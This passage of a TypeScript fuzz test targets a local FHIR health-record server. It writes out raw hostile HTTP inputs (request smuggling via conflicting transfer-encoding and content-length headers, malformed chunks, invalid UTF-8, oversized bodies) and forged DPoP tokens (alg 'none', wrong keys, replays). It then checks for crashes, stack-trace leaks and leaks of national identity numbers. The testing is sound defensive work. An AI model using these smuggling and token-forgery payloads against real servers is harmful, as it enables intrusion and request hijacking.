    { kind: 'raw invalid utf-8', bytes: (rng) => post(rng.pick(['/fhir/Goal', '/fhir', `/fhir/Goal/$validate`, '/status']), Buffer.concat([Buffer.from(goal.slice(0, 30)), Buffer.from(rng.pick([[0xff], [0xc3, 0x28], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xe2, 0x82], [0xc0, 0xaf]])), Buffer.from(goal.slice(30))])) },
    { kind: 'raw content-length short', bytes: () => post('/fhir/Goal', goal, '', Math.floor(goal.length / 2)) },
    { kind: 'raw content-length long', bytes: () => post('/fhir/Goal', goal, '', goal.length + 100), mayStall: true },
    { kind: 'raw content-length bad', bytes: (rng) => post('/fhir/Goal', goal, '', rng.pick(['-1', 'abc', '1e3', ' ', '99999999999999999999', '0x10', `${goal.length}, ${goal.length}`, `${goal.length}, 5`])) },
    { kind: 'raw content-length twice', bytes: (rng) => post('/fhir/Goal', goal, `content-length: ${rng.pick([goal.length, 3])}\r\n`) },
    { kind: 'raw smuggling', bytes: (rng) => req(`POST /fhir/Goal HTTP/1.1\r\nHost: ${host}\r\n${authLines}content-type: application/fhir+json\r\ncontent-length: 4\r\ntransfer-encoding: ${rng.pick(['chunked', 'chunked, identity', 'xchunked', 'chunked\r\ntransfer-encoding: x'])}\r\nconnection: close\r\n\r\n`, `${goal.length.toString(16)}\r\n${goal}\r\n0\r\n\r\nGET /fhir/metadata HTTP/1.1\r\nHost: x\r\n\r\n`) },
    { kind: 'raw bad chunks', bytes: (rng) => req(`POST /fhir/Goal HTTP/1.1\r\nHost: ${host}\r\n${authLines}content-type: application/fhir+json\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n`, rng.pick([`zz\r\n${goal}\r\n0\r\n\r\n`, `${(goal.length + 50).toString(16)}\r\n${goal}\r\n0\r\n\r\n`, `5;${'x'.repeat(10_000)}\r\nhello\r\n0\r\n\r\n`, `${goal.length.toString(16)}\r\n${goal}\r\n0\r\nx-trailer: ${'y'.repeat(20_000)}\r\n\r\n`, '-1\r\nx\r\n0\r\n\r\n', `ffffffffffffffff\r\n${goal}\r\n`])), mayStall: true },
    { kind: 'raw body over limit', bytes: () => post('/fhir/Goal', Buffer.alloc(BODY_LIMIT + 1000, 0x20)) },
    { kind: 'raw body over limit, declared only', bytes: () => post('/fhir/Goal', '{}', '', BODY_LIMIT * 64) },
    { kind: 'raw pipelined', bytes: (rng) => req(`${Array.from({ length: rng.pick([5, 50]) }, () => `GET /fhir/Goal?_count=1&${q([['status', rng.pick(INJECTION)]])} HTTP/1.1\r\nHost: ${host}\r\n${authLines}\r\n`).join('')}GET /fhir/metadata HTTP/1.1\r\nHost: ${host}\r\nconnection: close\r\n\r\n`) },
    { kind: 'raw http2 preface', bytes: () => Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00') },
    { kind: 'raw garbage', bytes: (rng) => Buffer.from(Array.from({ length: rng.pick([1, 100, 5000]) }, () => rng.int(256))) },
    { kind: 'raw tls hello', bytes: () => Buffer.from([0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03]) },
    { kind: 'raw expect', bytes: () => post('/fhir/Goal', goal, 'expect: 100-continue\r\n') },
    { kind: 'raw expect bogus', bytes: () => post('/fhir/Goal', goal, 'expect: 999-bogus\r\n') },
    { kind: 'raw method', bytes: (rng) => req(`${rng.pick(['TRACE', 'CONNECT', 'TRACK', 'DEBUG'])} ${rng.pick(['/fhir/metadata', '/fhir', '127.0.0.1:80'])} HTTP/1.1\r\nHost: ${host}\r\n${authLines}connection: close\r\n\r\n`) },
    { kind: 'raw incomplete', bytes: () => Buffer.from(`GET /fhir/metadata HTTP/1.1\r\nHost: ${host}\r\nx-a: b`), mayStall: true },
  ];
  return Array.from({ length: count }, (_, i) => {
    const index = start + i;
    const rng = new Rng(caseSeed(SEED, index));
    const tpl = templates[i % templates.length] as (typeof templates)[number];
    return { index, kind: tpl.kind, method: 'RAW', target: '', headers: {}, raw: tpl.bytes(rng), ...(tpl.mayStall ? { mayStall: true } : {}) };
  });
}

// ---------------------------------------------------------------------------------------------
// Sending and checking

interface Answer {
  status: number;
  contentType: string;
  body: string;
}

async function proofFor(w: World, c: Case, url: string): Promise<string | undefined> {
  const mode = c.dpop;
  if (!mode || mode === 'none') return undefined;
  const htu = `${w.baseUrl.replace(/\/fhir$/, '')}${url.split('?')[0]}`;
  const key = w.dpop.key;
  const sign = (claims: Record<string, unknown>, header: Record<string, unknown> = { typ: 'dpop+jwt', alg: 'ES256', jwk: key.publicJwk }) =>
    new SignJWT(claims).setProtectedHeader(header as { alg: string }).sign(key.privateKey);
  const ath = createHash('sha256').update(w.dpop.token).digest('base64url');
  const now = Math.floor(Date.now() / 1000);
  switch (mode) {
    case 'valid':
    case 'replay':
      return dpopProof(key, { htm: c.method, htu, accessToken: w.dpop.token });
    case 'wrong-url':
      return dpopProof(key, { htm: c.method, htu: `${htu}x`, accessToken: w.dpop.token });
    case 'wrong-method':
      return dpopProof(key, { htm: c.method === 'GET' ? 'POST' : 'GET', htu, accessToken: w.dpop.token });
    case 'no-ath':
      return dpopProof(key, { htm: c.method, htu });
    case 'old':
      return sign({ jti: crypto.randomUUID(), htm: c.method, htu, ath, iat: now - 3600 });
    case 'future':
      return sign({ jti: crypto.randomUUID(), htm: c.method, htu, ath, iat: now + 3600 });
    case 'alg-none':
      return `${Buffer.from(JSON.stringify({ typ: 'dpop+jwt', alg: 'none', jwk: key.publicJwk })).toString('base64url')}.${Buffer.from(JSON.stringify({ jti: 'x', htm: c.method, htu, ath, iat: now })).toString('base64url')}.`;
    case 'other-key': {
      const other = generateKeyPairSync('ec', { namedCurve: 'P-256' });
      const jwk = other.publicKey.export({ format: 'jwk' });
      return new SignJWT({ jti: crypto.randomUUID(), htm: c.method, htu, ath }).setIssuedAt().setProtectedHeader({ typ: 'dpop+jwt', alg: 'ES256', jwk }).sign(other.privateKey);
    }
    case 'private-jwk':
      return sign({ jti: crypto.randomUUID(), htm: c.method, htu, ath, iat: now }, { typ: 'dpop+jwt', alg: 'ES256', jwk: key.privateJwk });
    case 'garbage':
      return ['x', 'a.b.c', '', 'e30.e30.e30', 'A'.repeat(9000)][c.index % 5] as string;
  }
}

async function sendFetch(w: World, c: Case): Promise<Answer> {
  const headers: Record<string, string> = { ...c.headers };
  const proof = await proofFor(w, c, c.target);
  if (proof !== undefined) headers.dpop = proof;
  const init: RequestInit = { method: c.method, headers, signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS) };
  if (c.body !== undefined && c.method !== 'GET' && c.method !== 'HEAD') init.body = c.body;
  const send = () => fetch(`${w.base}${c.target}`, init);
  // A keep-alive connection the server closed after refusing a request that left its body unread
  // may be picked for the next one: undici then reports "other side closed". Sent once more on a
  // fresh connection, a real failure (a crash, a hang) fails again.
  const res = await send().catch((err: Error) => {
    if (!/other side closed|ECONNRESET/.test(`${err.message} ${String(err.cause ?? '')}`)) throw err;
    return send();
  });
  const answer = { status: res.status, contentType: res.headers.get('content-type') ?? '', body: await res.text() };
  if (c.dpop === 'replay' && proof !== undefined) {
    // The same proof again: refused as a replay, never a failure.
    const again = await fetch(`${w.base}${c.target}`, { ...init, signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS) });
    const second = { status: again.status, contentType: again.headers.get('content-type') ?? '', body: await again.text() };
    if (second.status < 400) throw new Error(`a replayed DPoP proof was accepted (${second.status})`);
    return second;
  }
  return answer;
}

/** Sends bytes on a fresh connection; gives what the server answered (possibly nothing) when it closes or after `ms`. */
function sendRaw(w: World, bytes: Buffer, ms = 10_000): Promise<{ text: string; closed: boolean }> {
  return new Promise((resolve) => {
    const socket = connect(Number(new URL(w.base).port), '127.0.0.1');
    const chunks: Buffer[] = [];
    let done = false;
    const finish = (closed: boolean) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve({ text: Buffer.concat(chunks).toString('latin1'), closed });
    };
    const timer = setTimeout(() => finish(false), ms);
    socket.on('data', (d) => chunks.push(d));
    socket.on('close', () => finish(true));
    socket.on('error', () => finish(true));
    socket.on('connect', () => {
      socket.write(bytes, () => {
        // Half-close so a server waiting for more body bytes sees the end.
        if (!socket.destroyed) socket.end();
      });
    });
  });
}

/** The HTTP responses in a raw answer (several when pipelined). */
function parseResponses(text: string): Answer[] {
  const out: Answer[] = [];
  let rest = text;
  while (rest.startsWith('HTTP/')) {
    const end = rest.indexOf('\r\n\r\n');
    if (end < 0) break;
    const head = rest.slice(0, end);
    const status = Number(/^HTTP\/\d\.\d (\d{3})/.exec(head)?.[1]);
    const contentType = /\r\ncontent-type: *([^\r\n]*)/i.exec(head)?.[1] ?? '';
    const length = /\r\ncontent-length: *(\d+)/i.exec(head)?.[1];
    let body = '';
    rest = rest.slice(end + 4);
    if (length !== undefined) {
      body = rest.slice(0, Number(length));
      rest = rest.slice(Number(length));
    } else if (/\r\ntransfer-encoding: *chunked/i.test(head)) {
      for (;;) {
        const line = rest.indexOf('\r\n');
        const size = parseInt(rest.slice(0, line), 16);
        if (line < 0 || !Number.isFinite(size)) break;
        body += rest.slice(line + 2, line + 2 + size);
        rest = rest.slice(line + 2 + size + 2);
        if (size === 0) break;
      }
    }
    out.push({ status, contentType, body: Buffer.from(body, 'latin1').toString('utf8') });
  }
  return out;
}

const STACK = /\n\s+at |\bat (?:async )?[\w$.<>[\]]+ \((?:file:|node:|\/)|node_modules\/|\/work\/|\/(?:src|dist)\/[\w/-]+\.(?:ts|js)|\.(?:ts|js|mjs):\d+:\d+|\b(?:TypeError|ReferenceError|RangeError|AggregateError)\b|\bundefined is not|Cannot read propert/;

/** Problems with one answer; `fhir`: the FHIR layer answered, so an error must be an OperationOutcome. */
function problems(a: Answer, fhir: boolean, knownNins: readonly string[], head = false): string[] {
  const found: string[] = [];
  if (a.status >= 500) found.push(`status ${a.status}`);
  const error = a.status >= 400;
  const json = /json/i.test(a.contentType);
  let parsed: { resourceType?: string; issue?: Array<{ severity?: string; code?: string }>; type?: string; entry?: Array<{ response?: { outcome?: unknown } }> } | undefined;
  if (json && a.body) {
    try {
      parsed = JSON.parse(a.body) as typeof parsed;
    } catch {
      found.push('a JSON content type with a body that is not JSON');
    }
  }
  // A HEAD answer has the status and headers of the GET, and no body.
  if (error && fhir && !head) {
    if (!/^application\/fhir\+json/i.test(a.contentType)) found.push(`an error with content type "${a.contentType}"`);
    else if (parsed?.resourceType !== 'OperationOutcome' || !parsed.issue?.length || parsed.issue.some((i) => !i.severity || !i.code)) found.push('an error that is not an OperationOutcome');
  }
  // What an error says (and what a batch says about its failed entries) must not leak.
  const said = error ? a.body : parsed?.type === 'batch-response' || parsed?.type === 'transaction-response' ? JSON.stringify((parsed.entry ?? []).map((e) => e.response?.outcome ?? null)) : '';
  const stack = STACK.exec(said);
  if (stack) found.push(`a stack trace or internal path (${JSON.stringify(said.slice(Math.max(0, stack.index - 60), stack.index + 80))})`);
  const nins = (said.match(/(?<!\d)\d{11}(?!\d)/g) ?? []).filter((d) => isValidNin(d) || knownNins.includes(d));
  if (nins.length) found.push(`a national identity number in an error (${JSON.stringify(said.slice(Math.max(0, said.indexOf(nins[0] as string) - 80), said.indexOf(nins[0] as string) + 20))})`);
  return found;
}

function describeCase(c: Case): string {
  if (c.raw) return `#${c.index} ${c.kind}: ${JSON.stringify(c.raw.subarray(0, 300).toString('latin1'))}`;
  const headers = Object.entries(c.headers)
    .filter(([k]) => k !== 'authorization' || !/^Bearer [\w-]+\.[\w-]+\.[\w-]+$/.test(c.headers[k] as string))
    .map(([k, v]) => `${k}: ${v.slice(0, 120)}`)
    .join('; ');
  const body = c.body === undefined ? '' : ` body(${c.body.length}) ${JSON.stringify((Buffer.isBuffer(c.body) ? c.body.toString('latin1') : c.body).slice(0, 400))}`;
  return `#${c.index} ${c.kind}: ${c.method} ${c.target.slice(0, 400)} [${headers}]${c.dpop ? ` dpop=${c.dpop}` : ''}${body}`;
}

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

// ---------------------------------------------------------------------------------------------
// The test

let db: BenchDatabase;
let server: Running;
let world: World;
let before: Map<string, string>;

beforeAll(async () => {
  db = await openBenchDatabase(process.env.DATABASE_URL ? 'postgres' : 'pglite');
  const port = await freePort();
  const baseUrl = `http://127.0.0.1:${port}/fhir`;
  server = await startProcess(
    process.env.FUZZ_SERVER_SCRIPT ?? MAIN,
    serverEnv(db.dataDir, db.env.DATABASE_URL, { PORT: String(port), BASE_URL: baseUrl, SEED_DEMO_DATA: 'true', BODY_LIMIT: String(BODY_LIMIT), LOG_LEVEL: 'fatal' }),
  );
  world = await buildWorld(server, db, baseUrl);
  before = await compartment(world, world.sentinel);
}, 300_000);

afterAll(async () => {
  await server?.stop();
  await db?.close();
}, 120_000);

describe(`hostile input (seed ${SEED})`, () => {
  it(`answers ${CASES}+ malformed and hostile requests without a 5xx, a leak or a crash`, async () => {
    const started = performance.now();
    const rawCount = Math.max(200, Math.round(CASES * 0.04));
    // Raw cases are interleaved with the generated ones, which are made as they are sent.
    const raw = rawCases(world, CASES, rawCount);
    const caseAt = (i: number): Case => (i < CASES ? generate(i, world) : (raw[i - CASES] as Case));
    const order: number[] = [];
    for (let i = 0, r = 0; i < CASES || r < rawCount; i++) {
      if (i < CASES) order.push(i);
      if ((i % 24 === 23 || i >= CASES) && r < rawCount) order.push(CASES + r++);
    }
    if (ONLY) order.splice(0, order.length, ...ONLY);
    const findings: string[] = [];
    const mix = new Map<string, number>();
    const statuses = new Map<number, number>();
    let requests = 0;
    let next = 0;
    const record = (c: Case, what: string) => {
      if (findings.length < 200) findings.push(`${what} — ${describeCase(c)}`);
      else if (findings.length === 200) findings.push('… (more)');
    };
    await Promise.all(
      Array.from({ length: ONLY ? 1 : CONCURRENCY }, async () => {
        while (next < order.length) {
          const c = caseAt(order[next++] as number);
          mix.set(c.kind, (mix.get(c.kind) ?? 0) + 1);
          if (c.raw) {
            const res = await sendRaw(world, c.raw);
            requests++;
            if (!res.closed && !c.mayStall && !res.text) record(c, 'no answer and the connection held open (a hang)');
            for (const a of parseResponses(res.text)) {
              statuses.set(a.status, (statuses.get(a.status) ?? 0) + 1);
              // What Node's HTTP parser refuses is answered with an OperationOutcome too (src/http/server.ts).
              for (const p of problems(a, a.body !== '', world.knownNins)) record(c, `${p} (answered ${a.status} ${JSON.stringify(a.body.slice(0, 200))})`);
            }
          } else {
            let answer: Answer;
            try {
              answer = await sendFetch(world, c);
            } catch (err) {
              const reason = `${(err as Error).message} ${String((err as { cause?: unknown }).cause ?? '')}`;
              // A body over the limit is refused (413) and the connection closed while the client
              // may still be sending it: the client then fails to write (EPIPE) before it reads
              // the answer. The raw cases over the limit check that answer itself.
              if (c.body !== undefined && Buffer.byteLength(c.body) > BODY_LIMIT && /EPIPE|ECONNRESET|other side closed/.test(reason)) continue;
              record(c, `no answer: ${reason}`);
              continue;
            } finally {
              requests += c.dpop === 'replay' ? 2 : 1;
            }
            statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
            // The identity provider answers in OAuth's error format; CORS preflights are the CORS plugin's.
            const fhir = !c.target.startsWith('/idp') && c.method !== 'OPTIONS';
            for (const p of problems(answer, fhir, world.knownNins, c.method === 'HEAD')) record(c, `${p} (answered ${answer.status} ${JSON.stringify(answer.body.slice(0, 200))})`);
          }
          if (requests % 500 === 0 && !alive(server.pid)) throw new Error(`the server process exited (seed ${SEED}, around case #${c.index})`);
        }
      }),
    );
    const seconds = (performance.now() - started) / 1000;
    console.log(
      `fuzz: seed ${SEED}, ${requests} requests in ${seconds.toFixed(1)} s\n  mix: ${[...mix].sort((a, b) => b[1] - a[1]).map(([k, n]) => `${k} ${n}`).join(', ')}\n  statuses: ${[...statuses].sort((a, b) => a[0] - b[0]).map(([s, n]) => `${s}×${n}`).join(' ')}`,
    );
    expect(alive(server.pid), `the server process exited (seed ${SEED})`).toBe(true);
    expect(findings, `findings with FUZZ_SEED=${SEED} (replay one with FUZZ_ONLY=<#>):\n${findings.join('\n')}`).toEqual([]);
    if (!ONLY) expect(requests).toBeGreaterThanOrEqual(5_000);
  }, 600_000);

  it('is healthy afterwards: ready, reads work, the data seeded before is intact', async () => {
    expect(alive(server.pid)).toBe(true);
    expect((await fetch(`${world.base}/healthz`)).status).toBe(200);
    expect((await fetch(`${world.base}/readyz`)).status).toBe(200);
    const s = world.sentinel;
    const read = await fetchJson<Resource>(world, 'GET', `CarePlan/${s.planId}`, clinicianHeaders(world.tokens.clinician, s.nin));
    expect(read.status).toBe(200);
    expect(read.body.resourceType).toBe('CarePlan');
    // The sentinel patient was never named by the fuzz: nothing of theirs may have changed.
    const after = await compartment(world, s);
    expect([...after.keys()].sort()).toEqual([...before.keys()].sort());
    for (const [k, v] of before) expect(after.get(k), k).toBe(v);
    // The fuzzed patients' data is still whole: every resource reads back, the plan status answers
    // (unless the fuzz deleted the Patient, which their GP may do).
    for (const target of world.targets) {
      const patient = await fetchJson(world, 'GET', `Patient/${target.patientId}`, clinicianHeaders(world.tokens.clinician, target.nin));
      if (patient.status === 404 || patient.status === 410) continue;
      expect(patient.status, JSON.stringify(patient.body)).toBe(200);
      const data = await compartment(world, target);
      expect(data.size).toBeGreaterThan(1);
      const status = await fetchJson<{ parameter?: unknown[] }>(world, 'POST', 'Patient/$plan-status', clinicianHeaders(world.tokens.clinician, target.nin), JSON.stringify({ resourceType: 'Parameters', parameter: [{ name: 'nin', valueString: target.nin }] }));
      expect(status.status, JSON.stringify(status.body)).toBe(200);
    }
  }, 120_000);
});
